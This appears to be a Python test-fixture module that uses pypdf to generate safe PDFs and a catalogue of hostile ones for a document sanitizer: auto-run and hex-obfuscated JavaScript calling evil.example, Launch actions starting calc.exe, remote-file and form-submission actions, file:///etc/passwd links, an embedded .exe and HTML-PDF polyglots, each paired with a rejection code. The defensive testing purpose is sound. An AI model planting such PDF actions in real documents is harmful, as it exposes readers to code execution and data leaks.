"""PDFs for the document room: good ones, and such as nobody should be handed."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

ODD_BOX = (100, 50, 500, 700)
WORDS = "Summary of a penetration test"


def paper(*turned: int, change: Callable[[PdfWriter], None] = lambda _: None) -> bytes:
    """A page for each angle that it is turned by, with a line of words; then changed."""
    writer = PdfWriter()
    for angle in turned or (0,):
        page = writer.add_blank_page(595, 842)
        font = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
        )
        drawn = DecodedStreamObject()
        drawn.set_data(f"BT /F1 24 Tf 72 720 Td ({WORDS}) Tj ET".encode())
        page[NameObject("/Contents")] = writer._add_object(drawn)
        page.rotate(angle)
    change(writer)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def words_of(content: bytes) -> list[str]:
    """The words of each page."""
    return [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(content)).pages]


def named(**more: Any) -> DictionaryObject:
    """A dictionary of names, texts and whatever else is an object already."""
    plain = {str: TextStringObject, int: NumberObject}
    return DictionaryObject(
        {NameObject(f"/{key}"): plain.get(type(value), lambda v: v)(value) for key, value in more.items()}
    )


def action(kind: str, **more: Any) -> DictionaryObject:
    return named(Type=NameObject("/Action"), S=NameObject(kind), **more)


def _opens(one: DictionaryObject) -> Callable[[PdfWriter], None]:
    return lambda writer: writer.root_object.update({NameObject("/OpenAction"): writer._add_object(one)})


def _on_a_page(key: str, one: Any) -> Callable[[PdfWriter], None]:
    return lambda writer: writer.pages[0].update({NameObject(key): one})


def _link(one: DictionaryObject) -> Callable[[PdfWriter], None]:
    annotation = named(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), A=one)
    return _on_a_page("/Annots", ArrayObject([annotation]))


def _annotation(kind: str) -> Callable[[PdfWriter], None]:
    return _on_a_page("/Annots", ArrayObject([named(Type=NameObject("/Annot"), Subtype=NameObject(kind))]))


def _lost(writer: PdfWriter) -> None:
    """An object that nothing refers to: another reader than ours may find a way to it."""
    writer._add_object(action("/JavaScript", JS="app.alert(1)"))


def _named_script(writer: PdfWriter) -> None:
    scripts = named(Names=ArrayObject([TextStringObject("a"), action("/JavaScript", JS="app.alert(1)")]))
    writer.root_object[NameObject("/Names")] = named(JavaScript=scripts)


def _second(writer: PdfWriter) -> None:
    """After an action that is allowed comes one that is not."""
    _opens(action("/GoTo", Next=ArrayObject([action("/Launch", F="calc.exe")])))(writer)


def _outside(writer: PdfWriter) -> None:
    drawn = DecodedStreamObject()
    drawn.set_data(b"")
    drawn[NameObject("/F")] = TextStringObject("/etc/passwd")
    writer._add_object(drawn)


def _spelled(content: bytes) -> bytes:
    """The same with ``/JavaScript`` and ``/JS`` in the spelling of ISO 32000-1, 7.3.5."""
    return content.replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/#4a#53")


def _attached(writer: PdfWriter) -> None:
    writer.add_attachment("x.exe", b"MZ")


def _encrypted(writer: PdfWriter) -> None:
    writer.encrypt("", "owner", algorithm="RC4-128")


def dangerous() -> dict[str, tuple[bytes, str]]:
    """Files by what they try, and the code of their refusal."""
    script = action("/JavaScript", JS="app.launchURL('https://evil.example')")
    return {
        "runs a script when it is opened": (paper(change=_opens(script)), "javascript"),
        "runs a script, spelled otherwise": (_spelled(paper(change=_opens(script))), "javascript"),
        "has a script of its own name": (paper(change=_named_script), "javascript"),
        "has a script that nothing leads to": (paper(change=_lost), "javascript"),
        "runs a script at a click": (paper(change=_link(script)), "javascript"),
        "starts a program": (paper(change=_opens(action("/Launch", F="calc.exe"))), "launch"),
        "starts one after another action": (paper(change=_second), "launch"),
        "opens another file": (paper(change=_link(action("/GoToR", F="//evil.example/share/x.pdf"))), "launch"),
        "sends a form": (paper(change=_link(action("/SubmitForm", F="https://evil.example"))), "action"),
        "does what nobody knows": (paper(change=_link(action("/Unheard"))), "action"),
        "does something with each page": (paper(change=_on_a_page("/AA", named(O=action("/Named")))), "action"),
        "holds a file": (paper(change=_attached), "embedded-file"),
        "pins a file to a page": (paper(change=_annotation("/FileAttachment")), "embedded-file"),
        "plays a film": (paper(change=_annotation("/RichMedia")), "media"),
        "is a form with a program": (
            paper(change=lambda w: w.root_object.update({NameObject("/AcroForm"): named(XFA="<xdp/>")})),
            "form-script",
        ),
        "reads a file of the machine": (paper(change=_outside), "external-file"),
        "leads to a file": (paper(change=_link(action("/URI", URI="file:///etc/passwd"))), "link"),
        "leads to a script": (paper(change=_link(action("/URI", URI="javascript:alert(1)"))), "link"),
        "is encrypted": (paper(change=_encrypted), "encrypted"),
        "is a page of HTML": (b"<!doctype html><script>alert(1)</script>", "not-pdf"),
        "is HTML with a PDF after it": (b"<script>alert(1)</script>\n" + paper(), "not-pdf"),
        "ends in the middle": (b"%PDF-1.7\n" + bytes(1000), "damaged"),
        "has no page": (b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF", "damaged"),
    }
